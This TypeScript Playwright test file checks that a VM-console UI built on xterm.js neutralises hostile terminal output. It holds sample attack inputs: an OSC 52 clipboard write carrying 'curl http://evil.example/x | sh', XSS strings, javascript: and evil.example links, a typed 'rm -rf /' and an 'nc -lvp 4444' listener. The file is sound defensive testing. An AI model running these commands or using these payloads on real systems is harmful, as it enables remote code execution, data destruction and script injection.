// Consoles in Debian's Chromium against a scripted shell that answers the console calls (console-shell.ts): opened
// from the VM pane and by key, several at once on several agents, typing, hostile output (OSC 52, a title carrying
// markup, OSC 8 links, palette changes), a flood under flow control with the heap bounded, output that comes before
// console.open answered, read-only and closed sessions, a recording replayed to the live screen, and xterm under the
// strict CSP with its WebGL and DOM renderers. Skipped where Chromium is absent.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { waitFor } from '../helpers/processes.ts';
import { heapUsed as measureHeap } from '../helpers/heap.ts';
import type { Browser, BrowserContext, CDPSession, Page } from 'playwright-core';
import { CHROMIUM_PATH, launchChromium, ROOT } from '../../bench/lib.ts';
import type { FlowStats } from '../../renderer/src/ui/console/flow.ts';
import type { ConsoleTab } from '../../renderer/src/ui/console/sessions.ts';
import { agentStatus, snapshot, vm } from './fixtures.ts';
import { startConsoleShell, type ConsoleShell } from './console-shell.ts';
import { record } from '../security/campaign.ts';

// The page-side callbacks run in Chromium; this file is type-checked as Node code: the little they touch.
interface PageElement { getAttribute(name: string): string | null; textContent: string | null; getBoundingClientRect(): { x: number; y: number; width: number; height: number } }
declare const document: {
  querySelector(selector: string): PageElement | null;
  querySelectorAll(selector: string): ArrayLike<PageElement> & Iterable<PageElement>;
  addEventListener(type: 'securitypolicyviolation', listener: (e: { violatedDirective: string; blockedURI: string; sample: string }) => void): void;
};
declare const window: {
  __csp: string[];
  __cordonConsoles?: { serialize(key: string): Promise<string | null>; flowStats(key: string): FlowStats | null; tabs(): ConsoleTab[] };
  open(...args: unknown[]): unknown;
  __opened: unknown[][];
};
declare function getComputedStyle(el: PageElement): { whiteSpace: string; fontFamily: string; color: string; display: string };

const HOSTILE = '<img src=x onerror=alert(1)>';
const present = existsSync(CHROMIUM_PATH);
const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;

describe('consoles in Chromium against a scripted shell', { skip: present ? false : `no Chromium at ${CHROMIUM_PATH}` }, () => {
  const outDir = mkdtempSync(join(tmpdir(), 'cordon-console-'));
  let shell: ConsoleShell;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let cdp: CDPSession;
  const dialogs: string[] = [];
  const errors: string[] = [];
  const popups: string[] = [];

  const tabs = () => page.evaluate(() => window.__cordonConsoles!.tabs().map((t) => ({ key: t.key, kind: t.kind, phase: t.phase, session: t.session?.sessionId ?? null, vmId: t.vmId, agentId: t.agentId, renderer: t.renderer })));
  const serialize = (key: string) => page.evaluate((k) => window.__cordonConsoles!.serialize(k), key);
  const flow = (key: string) => page.evaluate((k) => window.__cordonConsoles!.flowStats(k), key);
  const paneOf = (key: string) => `[data-testid="console-pane"][data-key="${key}"]`;
  const callsOf = (method: string, sessionId?: string) => shell.calls.filter((c) => c.method === method && (sessionId === undefined || c.params.sessionId === sessionId));
  const until = async (what: string, check: () => boolean | Promise<boolean>, ms = 10_000) => { await waitFor(check, what, ms, 25); };
  const heapUsed = () => measureHeap(cdp);

  /** Picks the VM in the fleet and presses its Console button; resolves with the new tab's key once open. */
  async function openFromPane(agentId: string, vmId: string): Promise<{ key: string; sessionId: string }> {
    await page.click(`[data-testid="fleet-vm"][data-agent="${agentId}"][data-vm="${vmId}"]`);
    await page.click('[data-testid="vm-console"]');
    let key = '';
    await until(`a console on ${agentId}/${vmId}`, async () => {
      const t = (await tabs()).find((x) => x.agentId === agentId && x.vmId === vmId && x.kind === 'live' && x.phase !== 'opening');
      key = t?.key ?? '';
      return t !== undefined;
    });
    const t = (await tabs()).find((x) => x.key === key)!;
    return { key, sessionId: t.session ?? '' };
  }

  before(async () => {
    const built = spawnSync(process.execPath, [join(ROOT, 'node_modules/vite/bin/vite.js'), 'build', '--config', 'renderer/vite.config.ts',
      '--outDir', outDir, '--emptyOutDir', '--logLevel', 'warn'], { cwd: ROOT, stdio: 'inherit' });
    assert.equal(built.status, 0, 'the renderer builds');
    shell = await startConsoleShell(outDir, snapshot({
      agents: [agentStatus('hv-01'), agentStatus('hv-02')],
      inventories: [
        { agentId: 'hv-01', vms: [vm('vm-web-1'), vm('vm-db-1', { name: `db ${HOSTILE}`, state: 'frozen' }), vm('vm-replay')] },
        { agentId: 'hv-02', vms: [vm('vm-x')] },
      ],
      events: [],
    }));
    browser = await launchChromium();
    context = await browser.newContext({ viewport: { width: 1600, height: 900 } });
    page = await context.newPage();
    cdp = await context.newCDPSession(page);
    context.on('page', (p) => popups.push(p.url()));
    page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
    page.on('pageerror', (e) => errors.push(String(e)));
    await page.addInitScript(() => {
      window.__csp = [];
      document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
      window.__opened = [];
      window.open = (...args: unknown[]) => { window.__opened.push(args); return null; };
    });
    await page.goto(`${shell.url}?console-renderer=webgl`); // WebGL on purpose: the DOM renderer has its own test below
    await page.waitForSelector('[data-testid="fleet-vm"]');
  });

  after(async () => {
    await browser?.close();
    await shell?.close();
    rmSync(outDir, { recursive: true, force: true });
  });

  let web: { key: string; sessionId: string };

  it('opens a console from the VM pane: a tab beside the views, its size asked of main, its renderer said', async () => {
    web = await openFromPane('hv-01', 'vm-web-1');
    assert.ok(web.sessionId !== '');
    const open = callsOf('console.open')[0]!;
    assert.equal(open.params.agentId, 'hv-01');
    assert.equal(open.params.vmId, 'vm-web-1');
    assert.ok((open.params.cols as number) > 40 && (open.params.rows as number) > 10, `fitted to the pane: ${open.params.cols}×${open.params.rows}`);
    assert.match(await page.textContent('[data-testid="console-tab"]') ?? '', /web-1 @ hv-01/);
    assert.equal(await page.getAttribute('[data-testid="console-deck"]', 'hidden'), null, 'the consoles are shown');
    const renderer = await page.getAttribute(paneOf(web.key), 'data-renderer');
    assert.ok(renderer === 'webgl' || renderer === 'dom', `renderer ${renderer}`);
    console.log(`# the console is drawn with ${renderer} (${await page.getAttribute(`${paneOf(web.key)} [data-testid="console-renderer"]`, 'title')})`);
    assert.deepEqual(await page.evaluate(() => window.__csp), [], 'xterm runs under the strict CSP without a violation');
  });

  it('keystrokes reach console.input, in order', async () => {
    await page.click(`${paneOf(web.key)} [data-testid="console-screen"]`);
    await page.keyboard.type('ps aux');
    await page.keyboard.press('Enter');
    await until('the typing', () => callsOf('console.input', web.sessionId).map((c) => c.params.data).join('') === 'ps aux\r');
  });

  it('hostile output is neutralised: OSC 52, a title with markup, palette changes, OSC 8 links, printed HTML', async () => {
    const clip = Buffer.from('curl http://evil.example/x | sh\n').toString('base64');
    shell.output(web.sessionId, `${ESC}[2J${ESC}[H`
      + `${ESC}]8;;https://evil.example/path?q=1${ST}CLICK-ME${ESC}]8;;${ST}  `
      + `${ESC}]8;;javascript:alert(1)${ST}JS-LINK${ESC}]8;;${ST}\r\n`
      + `${ESC}]52;c;${clip}${BEL}`
      + `${ESC}]52;c;?${BEL}`
      + `${ESC}]0;${HOSTILE}\u202Etxt.exe${BEL}`
      + `${ESC}]11;#0a0d12${BEL}${ESC}]10;#0a0d12${BEL}`
      + `<script>alert(3)</script> ${HOSTILE}\r\n`);
    await page.waitForSelector('[data-testid="console-tab-title"]');
    const tabTitle = await page.textContent('[data-testid="console-tab-title"]') ?? '';
    assert.ok(tabTitle.startsWith('<img src=x onerror=alert(1)>'), `the title as text: ${tabTitle}`);
    assert.ok((await page.textContent('[data-testid="console-title"]'))?.includes(`${HOSTILE}⟨U+202E⟩txt.exe`) || (await page.textContent('[data-testid="console-title"]'))?.includes('U+202E'), 'the override is shown');
    await until('the refusals', async () => ((await page.textContent(`${paneOf(web.key)} [data-testid="console-notices"]`)) ?? '').includes('colours'));
    const notices = await page.textContent(`${paneOf(web.key)} [data-testid="console-notices"]`) ?? '';
    assert.match(notices, /tried to write 32 bytes to your clipboard \(OSC 52\): refused/);
    assert.match(notices, /asked to read your clipboard \(OSC 52\): refused/);
    assert.match(notices, /change the terminal's colours/);
    assert.equal(await page.locator('img').count(), 0, 'no element was made of guest text');
    assert.equal(await page.locator('script:not([src])').count(), 0);
    const screen = await serialize(web.key) ?? '';
    assert.ok(screen.includes('<script>alert(3)</script>'), 'printed HTML is on the screen as text');

    // The https link: clicking it asks first, showing the whole address; nothing opens without a yes.
    const box = await page.locator(`${paneOf(web.key)} .xterm-screen`).boundingBox();
    const dims = await page.evaluate(() => window.__cordonConsoles!.tabs().length);
    assert.ok(box !== null && dims > 0);
    const cols = callsOf('console.open')[0]!.params.cols as number;
    const rows = callsOf('console.open')[0]!.params.rows as number;
    const cellW = box.width / cols;
    const cellH = box.height / rows;
    const at = (col: number, row: number) => ({ x: box.x + (col + 0.5) * cellW, y: box.y + (row + 0.5) * cellH });
    const jsLink = at(12, 0);
    await page.mouse.move(jsLink.x, jsLink.y);
    await page.mouse.click(jsLink.x, jsLink.y);
    const link = at(3, 0);
    await page.mouse.move(link.x - 4, link.y);
    await page.mouse.move(link.x, link.y);
    await page.waitForSelector('[data-testid="console-hover"]:has-text("https://evil.example/path?q=1")');
    await page.mouse.click(link.x, link.y);
    await page.waitForSelector('[data-testid="console-link-confirm"]');
    assert.equal(await page.textContent('[data-testid="console-link-url"]'), 'https://evil.example/path?q=1');
    assert.equal(await page.textContent('[data-testid="console-link-host"]'), 'evil.example');
    assert.equal(await page.evaluate(() => window.__opened.length), 0, 'nothing opened before the responder said yes');
    await page.keyboard.press('Escape');
    await page.waitForSelector('[data-testid="console-link-confirm"]', { state: 'detached' });
    assert.equal(await page.evaluate(() => window.__opened.length), 0, 'nor after they said no');
    assert.equal((await page.textContent(`${paneOf(web.key)} [data-testid="console-notices"]`) ?? '').includes('javascript'), false, 'a javascript: link is not even a link');
    await page.mouse.move(jsLink.x, jsLink.y);
    await page.mouse.move(link.x, link.y);
    await page.waitForSelector('[data-testid="console-hover"]:has-text("https://evil.example/path?q=1")');
    await page.mouse.click(link.x, link.y);
    await page.click('[data-testid="console-link-open"]');
    assert.deepEqual(await page.evaluate(() => window.__opened), [['https://evil.example/path?q=1', '_blank', 'noopener,noreferrer']], 'opened only after the yes, without opener or referrer');
    assert.deepEqual(dialogs, [], 'no alert, no confirm() of xterm\'s own');
    assert.deepEqual(popups, []);
    const sequences = ['OSC 8 https link', 'OSC 8 javascript: link', 'OSC 52 clipboard write', 'OSC 52 clipboard read', 'OSC 0 title with markup and U+202E', 'OSC 11/10 palette changes', 'printed <script> and <img onerror>'];
    record({ campaign: 'bad-input', target: 'renderer: VM console output (xterm.js in Chromium)', kind: 'terminal escape sequences: OSC 52, OSC 8 links, titles, palette, printed HTML', tried: sequences.length,
      refused: sequences.length, crashes: 0, outcome: 'Clipboard writes and reads refused with a notice; the title shown as text; links open only after a yes (javascript: is no link); HTML printed as text; no dialog, no popup.' });
  });

  it('a flood under flow control: main\'s window holds, every byte is acknowledged, xterm and the heap stay bounded', async () => {
    const before = await heapUsed();
    const line = (n: number) => `${String(n).padStart(8, '0')} ${'flood of console output '.repeat(5)}\r\n`;
    const { sent, maxUnacked } = await shell.stream(web.sessionId, {
      total: 32 * 1024 * 1024,
      chunk: 64 * 1024,
      window: 1024 * 1024,
      make: (offset, size) => {
        let s = '';
        let n = Math.floor(offset / 128);
        while (s.length < size) s += line(n++);
        return Buffer.from(s.slice(0, size));
      },
      timeoutMs: 120_000,
    });
    assert.equal(sent, 32 * 1024 * 1024);
    assert.ok(maxUnacked <= 1024 * 1024 + 64 * 1024, `unacknowledged at most the window and a chunk: ${maxUnacked}`);
    await until('every byte acknowledged', () => shell.acked(web.sessionId) >= sent + 100, 30_000).catch(() => {});
    const f = await flow(web.key);
    assert.ok(f !== null);
    assert.equal(shell.unacked(web.sessionId), 0, `all acknowledged (${JSON.stringify(f)})`);
    assert.ok(f.peakHeld <= 1024 * 1024 + 64 * 1024, `the renderer held at most main's window: ${f.peakHeld}`);
    assert.equal(f.dropped, 0);
    const after = await heapUsed();
    console.log(`# flood of 32 MiB: heap ${(before / 1048576).toFixed(1)} → ${(after / 1048576).toFixed(1)} MiB; peak held ${(f.peakHeld / 1024).toFixed(0)} KiB; acks ${callsOf('console.ack', web.sessionId).length}`);
    assert.ok(after - before < 40 * 1024 * 1024, `the heap grew by ${((after - before) / 1048576).toFixed(1)} MiB`);
  });

  it('a flood from a main that ignores its window: the renderer\'s queue stays bounded', async () => {
    const before = await heapUsed();
    await shell.stream(web.sessionId, { total: 24 * 1024 * 1024, chunk: 256 * 1024, make: (_o, size) => Buffer.alloc(size, 'x\r\n'.repeat(1)) });
    await until('drawn or dropped', async () => { const f = await flow(web.key); return f !== null && f.queued === 0 && f.inTerminal === 0; }, 60_000);
    const f = (await flow(web.key))!;
    assert.ok(f.peakHeld <= 8 * 1024 * 1024 + 256 * 1024 + 256 * 1024, `queue + xterm at most ~8 MiB: ${f.peakHeld}`);
    const after = await heapUsed();
    console.log(`# unwindowed flood of 24 MiB: heap ${(before / 1048576).toFixed(1)} → ${(after / 1048576).toFixed(1)} MiB; peak held ${(f.peakHeld / 1048576).toFixed(1)} MiB; dropped ${f.dropped}`);
    assert.ok(after - before < 40 * 1024 * 1024, `the heap grew by ${((after - before) / 1048576).toFixed(1)} MiB`);
    assert.equal(shell.unacked(web.sessionId), 0, 'drawn and dropped bytes alike are acknowledged');
  });

  it('several consoles on several agents; output that came before console.open answered is kept', async () => {
    shell.pushBeforeOpenReply = 'early bird\r\n';
    const x = await openFromPane('hv-02', 'vm-x');
    shell.pushBeforeOpenReply = null;
    await until('the early output', async () => (await serialize(x.key) ?? '').includes('early bird'));
    assert.equal((await tabs()).filter((t) => t.kind === 'live').length, 2);
    shell.output(x.sessionId, 'on hv-02\r\n');
    shell.output(web.sessionId, 'on hv-01\r\n');
    await until('each in its own', async () => (await serialize(x.key) ?? '').includes('on hv-02') && (await serialize(web.key) ?? '').includes('on hv-01'));
    assert.equal((await serialize(x.key) ?? '').includes('on hv-01'), false);
    // Alt+4 cycles through the consoles; Alt+1 goes back to the feed, and the consoles keep running.
    await page.keyboard.press('Alt+4');
    await until('the other tab', async () => (await page.getAttribute(paneOf(web.key), 'hidden')) === null);
    await page.keyboard.press('Alt+1');
    await page.waitForSelector('[data-testid="threat-feed"]');
    shell.output(x.sessionId, 'while hidden\r\n');
    await until('written while hidden', async () => (await serialize(x.key) ?? '').includes('while hidden'));
    await page.keyboard.press('Alt+4');
    await page.waitForSelector('[data-testid="console-deck"]:not([hidden])');
    // o, on a VM picked in the fleet, shows its console (one per VM: the open one, not a second).
    await page.keyboard.press('Alt+1');
    await page.click('[data-testid="fleet-vm"][data-agent="hv-01"][data-vm="vm-web-1"]');
    await page.keyboard.press('o');
    await until('the web console shown', async () => (await page.getAttribute(paneOf(web.key), 'hidden')) === null && (await page.getAttribute('[data-testid="console-deck"]', 'hidden')) === null);
    assert.equal(callsOf('console.open').length, 2);
  });

  it('a frozen VM\'s console is read-only: the reason is shown and keystrokes are not sent', async () => {
    const reason = `The VM is frozen: its console is read-only until it is resumed. ${HOSTILE}`;
    const answer = shell.openAnswer;
    shell.openAnswer = (p) => ({ ...(answer(p) as object), readOnly: true, reason, kind: 'serial' } as ReturnType<ConsoleShell['openAnswer']>);
    const db = await openFromPane('hv-01', 'vm-db-1');
    shell.openAnswer = answer;
    const banner = await page.textContent(`${paneOf(db.key)} [data-testid="console-banner"]`) ?? '';
    assert.ok(banner.includes(reason), banner);
    assert.equal(await page.getAttribute(paneOf(db.key), 'data-read-only'), 'true');
    assert.match(await page.textContent(`${paneOf(db.key)} [data-testid="console-tab"], [data-testid="console-tab"][data-key="${db.key}"]`) ?? '', /read-only/);
    await page.click(`${paneOf(db.key)} [data-testid="console-screen"]`);
    await page.keyboard.type('rm -rf /\r');
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(callsOf('console.input', db.sessionId).length, 0);
    shell.output(db.sessionId, 'serial output still shows\r\n');
    await until('its output', async () => (await serialize(db.key) ?? '').includes('serial output still shows'));
  });

  it('a closed session says why, keeps its scrollback, and sends nothing more', async () => {
    const { key, sessionId } = (await tabs()).filter((t) => t.kind === 'live').map((t) => ({ key: t.key, sessionId: t.session! }))[1]!;
    const acksBefore = callsOf('console.ack', sessionId).length;
    shell.push({ type: 'console.closed', sessionId, reason: 'The VM stopped.' });
    await page.waitForSelector(`${paneOf(key)}[data-phase="closed"]`, { state: 'attached' });
    assert.match(await page.textContent(`${paneOf(key)} [data-testid="console-banner"]`) ?? '', /Closed: The VM stopped\. What it printed is kept below/);
    assert.ok((await serialize(key) ?? '').includes('early bird'), 'the scrollback is kept');
    await page.click(`[data-testid="console-tab"][data-key="${key}"] .console-tab-open`);
    await page.click(`${paneOf(key)} [data-testid="console-screen"]`);
    await page.keyboard.type('ls\r');
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(callsOf('console.input', sessionId).length, 0);
    assert.equal(callsOf('console.ack', sessionId).length, acksBefore);
  });

  it('a recording replays to the same screen as the live session (compared with @xterm/addon-serialize)', async () => {
    const live = await openFromPane('hv-01', 'vm-replay');
    const open = callsOf('console.open').at(-1)!.params;
    const chunks = [
      `${ESC}[1;32mroot@replay${ESC}[0m:~# ps\r\n  PID TTY          TIME CMD\r\n    1 ?        00:00:01 init\r\n`,
      `  812 ?        00:00:00 nc -lvp 4444\r\n${ESC}]0;replay title${BEL}`,
      `${ESC}[38;2;255;100;0mtruecolour${ESC}[0m ${ESC}[7mreverse${ESC}[0m caf\xc3`.replace('\xc3', ''), // UTF-8 split below
    ];
    const raw = [Buffer.from(chunks[0]!), Buffer.from(chunks[1]!), Buffer.from(`${chunks[2]!}caf`), Buffer.from([0xc3]), Buffer.from([0xa9, 0x0d, 0x0a])];
    const lines = raw.concat(Array.from({ length: 200 }, (_, i) => Buffer.from(`line ${i} ${'•'.repeat(i % 30)}\r\n`)));
    for (const b of lines) shell.output(live.sessionId, b);
    await until('drawn', async () => (await serialize(live.key) ?? '').includes('line 199'));
    // The recording main would have written: the same bytes as UTF-8 text events (an incremental decoder joins the split é).
    const decoder = new TextDecoder('utf-8');
    const events = lines.map((b, i) => JSON.stringify([0.01 * (i + 1), 'o', decoder.decode(b, { stream: true })]));
    shell.casts.set('rec-replay', [JSON.stringify({ version: 2, width: open.cols, height: open.rows, title: 'replay' }), ...events].join('\n') + '\n');
    shell.recordings = { recordings: [{ recordingId: 'rec-replay', agentId: 'hv-01', vmId: 'vm-replay', actor: { name: 'alice' }, startedAt: new Date().toISOString(), bytes: 1234, sha256: 'a'.repeat(64) }] };
    await page.click(`${paneOf(live.key)} [data-testid="console-recordings"]`);
    await page.click('[data-testid="recording-replay"]');
    const replayKey = (await tabs()).find((t) => t.kind === 'replay')!.key;
    await page.waitForSelector(`${paneOf(replayKey)} [data-testid="replay-controls"]`);
    await page.click(`${paneOf(replayKey)} [data-testid="replay-end"]`);
    await page.waitForSelector(`${paneOf(replayKey)} [data-testid="replay-controls"][data-phase="ended"]`);
    const [a, b] = [await serialize(live.key), await serialize(replayKey)];
    assert.ok(a !== null && b !== null && a.length > 1000);
    assert.equal(b, a, 'the replay shows what the live session showed');
    assert.equal(await page.getAttribute(paneOf(replayKey), 'data-read-only'), 'true');
  });

  it('the DOM renderer under the strict CSP: xterm\'s CSS applies (monospace, spaces kept, truecolour), no violation', async () => {
    const dom = await context.newPage();
    const domErrors: string[] = [];
    dom.on('pageerror', (e) => domErrors.push(String(e)));
    dom.on('console', (m) => { if (m.type() === 'error') domErrors.push(m.text()); });
    await dom.addInitScript(() => {
      window.__csp = [];
      document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI} ${e.sample}`));
    });
    await dom.goto(`${shell.url}?console-renderer=dom`);
    await dom.click('[data-testid="fleet-vm"][data-vm="vm-web-1"]');
    await dom.click('[data-testid="vm-console"]');
    await dom.waitForSelector('[data-testid="console-pane"][data-phase="open"][data-renderer="dom"]');
    const sessionId = await dom.getAttribute('[data-testid="console-pane"]', 'data-session');
    shell.output(sessionId!, `a   b ${ESC}[38;2;255;100;0mTRUE${ESC}[0m ${ESC}[31mRED${ESC}[0m\r\n`);
    await dom.waitForFunction(() => (document.querySelector('.xterm-rows')?.textContent ?? '').includes('TRUE'));
    // (No named function inside: tsx would wrap it in a helper the page does not have.)
    const look = await dom.evaluate(() => {
      const rows = document.querySelector('.xterm-rows')!;
      const colours: Record<string, string> = {};
      for (const span of document.querySelectorAll('.xterm-rows span')) colours[span.textContent ?? ''] = getComputedStyle(span).color;
      return { whiteSpace: getComputedStyle(rows).whiteSpace, font: getComputedStyle(rows).fontFamily, truecolour: colours.TRUE, red: colours.RED };
    });
    assert.equal(look.whiteSpace, 'pre', 'spaces are kept');
    assert.match(look.font, /mono/i);
    assert.equal(look.truecolour, 'rgb(255, 100, 0)');
    assert.equal(look.red, 'rgb(255, 107, 61)', 'the palette from xterm\'s generated CSS');
    assert.deepEqual(await dom.evaluate(() => window.__csp), []);
    assert.deepEqual(domErrors, []);
    await dom.close();
  });

  it('no page error, no CSP violation, and a closed tab closes its session', async () => {
    const live = (await tabs()).find((t) => t.kind === 'live' && t.phase === 'open')!;
    await page.click(`[data-testid="console-tab"][data-key="${live.key}"] [data-testid="console-tab-close"]`);
    await until('console.close', () => callsOf('console.close', live.session!).length === 1);
    assert.deepEqual(await page.evaluate(() => window.__csp), []);
    assert.deepEqual(errors, []);
  });
});
